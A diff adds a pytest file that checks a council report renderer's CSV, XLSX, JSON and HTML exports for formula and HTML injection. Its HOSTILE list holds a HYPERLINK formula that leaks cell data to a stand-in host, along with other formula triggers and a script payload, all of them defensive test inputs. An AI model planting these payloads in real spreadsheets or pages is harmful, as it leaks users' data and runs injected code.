@@ -1,0 +1,224 @@
+"""Each download format reads back to the same suppressed figures; hostile text stays text."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from openpyxl import load_workbook
+
+from server.reports.render import FORMATS, render, spreadsheet_safe
+
+HOSTILE = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
+    "+44 1632 960000",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\tTabbed",
+    "\rReturned",
+    "<script>alert('team')</script>",
+    'Quotes " and ampersands & <b>bold</b>',
+]
+
+
+def summary_with(labels: list[str]) -> dict[str, Any]:
+    rows = [
+        {"label": label, "cells": [10 + i, "c", 33.3 if i % 2 else "x", None]}
+        for i, label in enumerate(labels)
+    ]
+    return {
+        "title": "Council service summary",
+        "period": {
+            "start": "2026-10-01",
+            "end": "2026-11-01",
+            "label": "1 October 2026 to 31 October 2026",
+        },
+        "generated_at": "2026-11-02T09:00:00+00:00",
+        "tables": [
+            {
+                "id": "families_and_contacts",
+                "title": "Families and meaningful contacts",
+                "description": "=1+1 is not a formula here",
+                "row_header": "Team",
+                "columns": ["Families open", "Meaningful contacts", "Rate", "Nothing"],
+                "rows": rows,
+                "total": {"label": "Council", "cells": [99, "c", 12.5, None]},
+            },
+            {
+                "id": "contacts_by_month",
+                "title": "Meaningful contacts by month",
+                "description": "Each month",
+                "row_header": "Month",
+                "columns": ["Meaningful contacts"],
+                "rows": [
+                    {"label": "September 2026", "cells": [40]},
+                    {"label": "October 2026", "cells": ["c"]},
+                ],
+                "total": {"label": "All 2 months", "cells": [45]},
+            },
+        ],
+        "charts": [
+            {
+                "id": "contacts_over_time",
+                "title": "Meaningful contacts over time",
+                "kind": "bar",
+                "alt_text": "Bar chart <of> contacts & more.",
+                "table_id": "contacts_by_month",
+                "series": "Meaningful contacts",
+                "unit": "contacts",
+                "maximum": None,
+                "categories": ["September 2026", "October 2026"],
+                "values": [40, "c"],
+            }
+        ],
+        "definitions_url": "docs/metrics.md",
+    }
+
+
+def expected_lines(table: dict[str, Any]) -> list[list[Any]]:
+    lines = [[table["row_header"], *table["columns"]]]
+    lines += [[row["label"], *row["cells"]] for row in table["rows"]]
+    lines.append([table["total"]["label"], *table["total"]["cells"]])
+    return lines
+
+
+def as_text(value: Any) -> str:
+    return "" if value is None else str(spreadsheet_safe(value))
+
+
+def test_spreadsheet_escaping_covers_each_trigger() -> None:
+    for label in HOSTILE[:6]:
+        assert spreadsheet_safe(label) == "'" + label
+    assert spreadsheet_safe("Team North") == "Team North"
+    assert spreadsheet_safe(-3) == -3  # numbers stay numbers
+
+
+def test_csv_reads_back_with_the_same_cells_and_no_formulas() -> None:
+    summary = summary_with(HOSTILE)
+    text = render(summary, "csv").decode("utf-8-sig")
+    lines = list(csv.reader(io.StringIO(text, newline="")))
+    for table in summary["tables"]:
+        start = lines.index([table["title"]]) + 1
+        got = lines[start : start + len(table["rows"]) + 2]
+        assert got == [[as_text(cell) for cell in line] for line in expected_lines(table)]
+    every_cell = [cell for line in lines for cell in line]
+    assert not [cell for cell in every_cell if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_xlsx_has_a_sheet_a_table_with_the_same_cells_and_no_formulas() -> None:
+    summary = summary_with(HOSTILE)
+    workbook = load_workbook(io.BytesIO(render(summary, "xlsx")))
+    assert workbook.sheetnames[0] == "About"
+    assert len(workbook.sheetnames) == 1 + len(summary["tables"])
+    for table, name in zip(summary["tables"], workbook.sheetnames[1:], strict=True):
+        sheet = workbook[name]
+        assert sheet["A1"].value == table["title"]
+        got = [list(row) for row in sheet.iter_rows(min_row=4, values_only=True)]
+        # XML keeps no bare carriage return: the escaped cell reads back with a newline.
+        want = [
+            [xml_text(spreadsheet_safe(cell)) for cell in line] for line in expected_lines(table)
+        ]
+        assert got == want
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{cell.coordinate} is a formula"
+
+
+def xml_text(value: Any) -> Any:
+    return value.replace("\r", "\n") if isinstance(value, str) else value
+
+
+def test_json_is_the_summary_itself() -> None:
+    summary = summary_with(HOSTILE)
+    assert json.loads(render(summary, "json")) == summary
+
+
+class ReportReader(HTMLParser):
+    """Collect each table's cells, the SVG texts, and any tag a report must not have."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tables: dict[str, list[list[str]]] = {}
+        self.table: str | None = None
+        self.cell: list[str] | None = None
+        self.tags: list[str] = []
+        self.svg_titles: list[str] = []
+        self.svg_descs: list[str] = []
+        self.figcaptions: list[str] = []
+        self.stack: list[str] = []
+        self.external: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        values = dict(attrs)
+        self.tags.append(tag)
+        self.stack.append(tag)
+        for name in ("src", "href"):
+            link = values.get(name) or ""
+            if link and not link.startswith("#"):
+                self.external.append(link)
+        if tag == "table":
+            self.table = values.get("id")
+            assert self.table
+            self.tables[self.table] = []
+        elif tag == "tr" and self.table:
+            self.tables[self.table].append([])
+        elif tag in ("td", "th") and self.table:
+            self.cell = []
+
+    def handle_endtag(self, tag: str) -> None:
+        if self.stack:
+            self.stack.pop()
+        if tag in ("td", "th") and self.table and self.cell is not None:
+            self.tables[self.table][-1].append("".join(self.cell))
+            self.cell = None
+        elif tag == "table":
+            self.table = None
+
+    def handle_data(self, data: str) -> None:
+        if self.cell is not None:
+            self.cell.append(data)
+        if self.stack[-1:] == ["title"] and "svg" in self.stack:
+            self.svg_titles.append(data)
+        if self.stack[-1:] == ["desc"]:
+            self.svg_descs.append(data)
+        if "figcaption" in self.stack:
+            self.figcaptions.append(data)
+
+
+def shown(value: Any) -> str:
+    if value is None:
+        return ""
+    if isinstance(value, float):
+        return f"{value:,.1f}"
+    if isinstance(value, int):
+        return f"{value:,}"
+    return str(value)
+
+
+def test_html_report_reads_back_with_the_same_cells_and_escaped_text() -> None:
+    summary = summary_with(HOSTILE)
+    page = render(summary, "html").decode("utf-8")
+    reader = ReportReader()
+    reader.feed(page)
+    for table in summary["tables"]:
+        got = reader.tables[f"table-{table['id']}"]
+        assert got == [[shown(cell) for cell in line] for line in expected_lines(table)]
+    assert "script" not in reader.tags and "img" not in reader.tags
+    assert reader.external == []
+    assert "<script>" not in page and "<b>bold</b>" not in page
+    assert reader.svg_titles == ["Meaningful contacts over time"]
+    assert reader.svg_descs == ["Bar chart <of> contacts & more."]
+    assert "Bar chart <of> contacts & more." in "".join(reader.figcaptions)
+    # The chart sits with the table holding its figures.
+    assert page.index('id="chart-contacts_over_time"') < page.index('id="table-contacts_by_month"')
+    assert "@media print" in page
+
+
+def test_an_unknown_format_is_refused() -> None:
+    with pytest.raises(ValueError, match="unknown format"):
+        render(summary_with(["North"]), "pdf")
+    assert set(FORMATS) == {"csv", "xlsx", "json", "html"}
